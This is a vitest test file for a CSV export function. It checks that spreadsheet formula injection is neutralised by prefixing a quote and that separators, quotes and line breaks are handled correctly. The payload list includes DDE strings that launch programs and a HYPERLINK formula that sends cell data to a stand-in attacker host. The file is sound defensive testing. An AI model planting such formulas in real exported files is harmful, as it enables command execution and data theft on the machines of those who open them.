import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, writeCsv } from '../src/index.ts';

/**
 * A CSV the product writes is opened in a spreadsheet by an administrator: a cell a member typed
 * (a search, a title) must be read as text, never run as a formula (OWASP, CSV injection).
 */
const payloads = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  "=cmd|' /C notepad'!'A1'",
  '=1\n2',
  '@',
  '-',
];

/** The cells of the written file, as a spreadsheet's CSV reader sees them. */
const cells = (text: string): string[][] =>
  parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', relax_quotes: false }) as string[][];

describe('writeCsv', () => {
  it.each(payloads)('writes %j as text: a single quote before it, the rest kept', (payload) => {
    const [, row] = cells(writeCsv(['Recherche', 'Nombre'], [[payload, 3]]));
    expect(row?.[0]).toBe(`'${payload}`);
    expect(row?.[1]).toBe('3');
  });

  it('leaves ordinary text, empty cells and numbers (negative ones too) as they are', () => {
    const [header, row] = cells(writeCsv(['Type', 'Niveau', 'Vide', 'Nombre'], [['Annonces', '6e - 5e', null, -2]]));
    expect(header).toEqual(['Type', 'Niveau', 'Vide', 'Nombre']);
    expect(row).toEqual(['Annonces', '6e - 5e', '', '-2']);
  });

  it('quotes what holds the separator, a quote or a line break, with a BOM and CRLF for Excel', () => {
    const text = writeCsv(['a'], [['Maths; Physique'], ['il a dit "non"']]);
    expect(text.startsWith('\uFEFFa\r\n')).toBe(true);
    expect(cells(text).slice(1)).toEqual([['Maths; Physique'], ['il a dit "non"']]);
  });

  it('escapes a header cell as well', () => {
    expect(csvCell('=A1')).toBe("'=A1");
    expect(cells(writeCsv(['=A1'], []))[0]).toEqual(["'=A1"]);
  });
});
